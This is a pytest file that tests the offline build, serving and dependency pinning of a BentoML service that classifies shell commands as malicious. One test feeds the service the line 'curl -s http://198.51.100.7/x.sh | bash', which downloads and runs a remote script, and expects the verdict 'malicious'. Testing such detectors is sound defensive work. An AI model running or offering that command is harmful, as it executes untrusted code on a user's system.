"""`bentoml build` without a network, and the bento served from an empty folder."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys

import pytest

from .conftest import ROOT, bentoml_command, environment, free_port, running

SOURCES = ("service", "cmdclf", "data/rules")
FILES = ("bentofile.yaml", "data/secrets.toml")
#: Libraries of the core that scoring doesn't need, and a bento doesn't bring.
NOT_NEEDED = ("sklearn", "scipy", "duckdb", "usearch", "openai", "onnx", "skl2onnx", "matplotlib")


def without_network() -> list[str]:
    """A command prefix that cuts the network, where this system allows it."""
    for prefix in (["unshare", "-n"], ["unshare", "-rn"]):
        if shutil.which("unshare") and subprocess.run([*prefix, "true"], capture_output=True).returncode == 0:
            return prefix
    return []


@pytest.fixture(scope="module")
def checkout(model_dir, tmp_path_factory):
    """A copy of what a bento is built from, with a model in model/."""
    folder = tmp_path_factory.mktemp("checkout")
    for name in SOURCES:
        shutil.copytree(ROOT / name, folder / name, ignore=shutil.ignore_patterns("__pycache__"))
    for name in FILES:
        shutil.copy(ROOT / name, folder / name)
    shutil.copytree(model_dir, folder / "model")
    return folder


def test_a_bento_is_built_without_a_network_and_scores_with_the_model_it_carries(checkout, tmp_path):
    # No index answers either, where the network can't be cut; and nothing outside the environment is on the path.
    nowhere = {"PIP_INDEX_URL": "http://127.0.0.1:9/", "PIP_RETRIES": "0", "UV_OFFLINE": "1"}
    env = environment(tmp_path / "bentoml", **nowhere)
    build = [*without_network(), *bentoml_command("build")]
    done = subprocess.run(build, cwd=checkout, env=env, capture_output=True, text=True, check=False, timeout=120)
    assert done.returncode == 0, done.stdout + done.stderr
    shutil.rmtree(checkout / "model")

    empty, port = tmp_path / "empty", free_port()
    empty.mkdir()
    command = bentoml_command("serve", "cmdclf:latest", "--host", "127.0.0.1", "--port", str(port))
    with running(command, port, empty, env, tmp_path / "log.txt") as server:
        status, answer = server.post("/score", {"lines": ["curl -s http://198.51.100.7/x.sh | bash"]})
    assert status == 200
    assert answer["model"].startswith("served@")
    assert answer["results"][0]["verdict"] == "malicious"


def test_a_bento_needs_only_the_packages_that_it_names(model_dir, tmp_path):
    script = f"""
import sys
sys.modules.update(dict.fromkeys({NOT_NEEDED!r}))
from service.app import CmdClf
service = CmdClf.inner()
assert service.score(["whoami"])["results"] and service.explain(["whoami"])["results"]
"""
    env = environment(tmp_path / "bentoml", CMDCLF_MODEL=str(model_dir))
    done = subprocess.run(
        [sys.executable, "-c", script], cwd=ROOT, env=env, capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr


def test_the_bentos_versions_are_those_of_the_lock():
    locked = dict(re.findall(r"^([\w-]+)==(\S+)", (ROOT / "constraints" / "test.txt").read_text(), re.MULTILINE))
    named = dict(re.findall(r'^\s+- "([\w-]+)==([^"]+)"', (ROOT / "bentofile.yaml").read_text(), re.MULTILINE))
    assert {"numpy", "onnxruntime", "pyarrow"} <= set(named)
    assert named == {name: locked[name] for name in named}
